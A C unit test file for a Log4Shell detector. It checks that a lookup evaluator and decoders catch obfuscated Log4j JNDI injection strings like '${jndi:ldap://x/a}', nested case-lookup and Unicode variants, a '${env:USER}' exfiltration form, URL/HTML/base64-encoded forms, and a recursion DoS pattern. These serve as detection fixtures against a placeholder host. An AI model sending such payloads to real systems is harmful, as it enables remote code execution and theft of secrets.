/*
 * test_lookup.c - the Log4j lookup evaluator and the decoders, case by
 * case: what Log4j 2.14.1 would look up, and what it would leave alone.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "detect/decode.h"
#include "detect/lookup.h"

/* The first JNDI name Log4j would look up in s, or NULL. */
static const char *jndi(struct l4s_result *r, const char *s)
{
    l4s_eval((const uint8_t *)s, strlen(s), r);
    return r->n_jndi ? r->jndi[0] : NULL;
}

static void evaluates_obfuscations(void **st)
{
    (void)st;
    struct l4s_result r;
    l4s_result_init(&r, 1 << 16);
    const char *want = "ldap://x/a";
    const char *cases[] = {
        "${jndi:ldap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
        "${${::::::-j}ndi:ldap://x/a}",
        "${${ozI:Kgh:-j}ndi:ldap://x/a}",
        "${${${lower:l}ower:j}ndi:ldap://x/a}",
        "${jNdI:ldap://x/a}",
        "${${upper:j}${upper:n}${lower:D}${upper:\xc4\xb1}:ldap://x/a}",
        "${${date:'j'}ndi:ldap://x/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
        "${lower:$${jndi:ldap://x/a}}",
        "prefix text ${jndi:ldap://x/a} suffix",
    };
    for(size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const char *got = jndi(&r, cases[i]);
        if(!got || strcmp(got, want))
            fail_msg("case %zu: %s gave %s", i, cases[i], got ? got : "none");
    }
    assert_string_equal(jndi(&r, "${jndi:ldap://x${lower:.}y/a}"),
                        "ldap://x.y/a");
    assert_string_equal(jndi(&r, "${jndi:ldap://${env:USER}.x/a}"),
                        "ldap://${env:USER}.x/a");
    l4s_result_free(&r);
}

static void leaves_alone(void **st)
{
    (void)st;
    struct l4s_result r;
    l4s_result_init(&r, 1 << 16);
    const char *cases[] = {
        "$${jndi:ldap://x/a}",            /* escaped */
        "${jndi:ldap://x/a",               /* never closed */
        "${base64:JHtqbmRpOmxkYXA6Ly94L2F9}", /* no such lookup */
        "${url:UTF-8:http://x/a}",
        "echo ${HOME} ${PATH:-/bin}",
        "${${::-${::-$${::-j}}}}",         /* recursion DoS pattern */
        "no lookups here at all",
    };
    for(size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        if(jndi(&r, cases[i]))
            fail_msg("case %zu: %s looked up %s", i, cases[i], r.jndi[0]);
    }
    jndi(&r, "${jndi:ldap://x/a");
    assert_true(r.unbalanced);
    l4s_result_free(&r);
}

static void limits_hold(void **st)
{
    (void)st;
    struct l4s_result r;
    char deep[4096];
    size_t k = 0;
    l4s_result_init(&r, 1 << 16);
    for(int i = 0; i < 200; i++, k += 8)
        memcpy(deep + k, "${lower:", 8);
    deep[k++] = 'x';
    for(int i = 0; i < 200; i++)
        deep[k++] = '}';
    deep[k] = 0;
    l4s_eval((const uint8_t *)deep, strlen(deep), &r);
    assert_true(r.aborted);
    /* the same name nested in its own default is not a cycle for Log4j */
    assert_null(jndi(&r, "${a:-${a:-x}}"));
    assert_string_equal(buf_cstr(&r.out), "x");
    l4s_result_free(&r);
}

/* l4s_lookups(s) must find what l4s_eval(s) finds. */
static void agrees(struct l4s_result *a, struct l4s_result *b, const char *s,
                   size_t n)
{
    l4s_eval((const uint8_t *)s, n, a);
    l4s_lookups((const uint8_t *)s, n, b);
    if(a->n_jndi != b->n_jndi || a->unbalanced != b->unbalanced ||
       a->aborted != b->aborted)
        fail_msg("%.*s: eval %zu/%d/%d, lookups %zu/%d/%d", (int)n, s,
                 a->n_jndi, a->unbalanced, a->aborted, b->n_jndi,
                 b->unbalanced, b->aborted);
    for(size_t i = 0; i < a->n_jndi; i++)
        assert_string_equal(a->jndi[i], b->jndi[i]);
}

static void quick_path_agrees(void **st)
{
    (void)st;
    struct l4s_result a, b;
    l4s_result_init(&a, 1 << 18);
    l4s_result_init(&b, 1 << 18);
    static const char *const cases[] = {
        "${user.home}/.cache ${project.version}", "${HOME:-/tmp}/x",
        "${{ secrets.TOKEN }}", "$${escaped}", "${unclosed", "$${unclosed",
        "${a} $${c", "${a $${b}", "$$${x", "${date:'$'{}",
        "${lower:$}${x", "${a:-$}${x", "${date:'$'}${jndi:ldap://x/a}",
        "${date:'$'{jndi:ldap://x/a", "${x:-y}${unclosed", "${jNdI:ldap://x/a}",
        "price $5 ${x}", "${date:yyyy}}}${", "${lower:\xc4\xb0}${", "}${",
        "${", "$", "${}", "${:-}", "${::-j}ndi:ldap://x/a}",
    };
    for(size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        agrees(&a, &b, cases[i], strlen(cases[i]));
    /* a plain template is not evaluated at all */
    l4s_lookups((const uint8_t *)"${user.home} ${unclosed", 23, &b);
    assert_int_equal(b.out.len, 0);
    assert_true(b.unbalanced);
    /* random strings over the characters that matter */
    static const char *const tok[] = {
        "${", "}", "$", "{", ":-", ":", "'", "date:", "lower:", "upper:",
        "jndi", "JnD", "i", "a", " ", "$${", "${x}", "\xc4\xb0", "env:X:-",
    };
    uint32_t seed = 12345;
    char s[256];
    for(int it = 0; it < 20000; it++) {
        size_t n = 0;
        seed = seed * 1103515245u + 12345u;
        int k = (int)(seed >> 16) % 24 + 1;
        for(int t = 0; t < k; t++) {
            seed = seed * 1103515245u + 12345u;
            const char *w = tok[(seed >> 16) % (sizeof(tok) / sizeof(tok[0]))];
            size_t l = strlen(w);
            if(n + l < sizeof(s)) {
                memcpy(s + n, w, l);
                n += l;
            }
        }
        agrees(&a, &b, s, n);
    }
    /* long plain text around the step cap: the quick path stays under it,
     * evaluation is what stops */
    size_t big = 200100;
    char *t = malloc(big + 16);
    assert_non_null(t);
    memset(t, 'a', big);
    memcpy(t + big - 3, "${x", 3);
    agrees(&a, &b, t, big);
    assert_true(b.aborted);
    agrees(&a, &b, t + big - 49990, 49990);
    free(t);
    l4s_result_free(&a);
    l4s_result_free(&b);
}

static void java_case_mapping(void **st)
{
    (void)st;
    struct buf b;
    buf_init(&b, 256);
    l4s_upper((const uint8_t *)"\xc4\xb1\xc5\xbf\xc3\x9f", 6, &b);
    assert_int_equal(b.len, 4);
    assert_memory_equal(b.p, "ISSS", 4);      /* dotless i, long s, sharp s */
    b.len = 0;
    l4s_lower((const uint8_t *)"\xe2\x84\xaaNDI", 6, &b);  /* Kelvin sign */
    assert_memory_equal(b.p, "kndi", 4);
    buf_free(&b);
}

static const char *layers(struct buf *b, const char *s, unsigned *bits)
{
    b->len = 0;
    *bits = decode_layers((const uint8_t *)s, strlen(s), false, 6, b);
    return buf_cstr(b);
}

static void decoders(void **st)
{
    (void)st;
    struct buf b;
    unsigned bits;
    buf_init(&b, 4096);
    assert_string_equal(layers(&b, "%2524%257B", &bits), "${");
    assert_int_equal(bits, DEC_URL);
    assert_string_equal(layers(&b, "\\u0024\\\\u007B\\044", &bits), "${$");
    assert_string_equal(layers(&b, "&#x24;&#0000123;&dollar;", &bits), "${$");
    assert_string_equal(layers(&b, "&LBRACE;&lbrace", &bits), "&LBRACE;&lbrace");
    assert_string_equal(layers(&b, "%26%2336%3B", &bits), "$");
    assert_int_equal(bits, DEC_URL | DEC_HTML);
    b.len = 0;
    size_t used = decode_b64((const uint8_t *)"JHtqbmRpfQ==!", 13, &b);
    assert_int_equal(used, 12);
    assert_string_equal(buf_cstr(&b), "${jndi}");
    b.len = 0;
    decode_b64((const uint8_t *)"JHtqbm", 6, &b);     /* truncated */
    assert_string_equal(buf_cstr(&b), "${jn");
    buf_free(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(evaluates_obfuscations),
        cmocka_unit_test(leaves_alone),
        cmocka_unit_test(limits_hold),
        cmocka_unit_test(quick_path_agrees),
        cmocka_unit_test(java_case_mapping),
        cmocka_unit_test(decoders),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
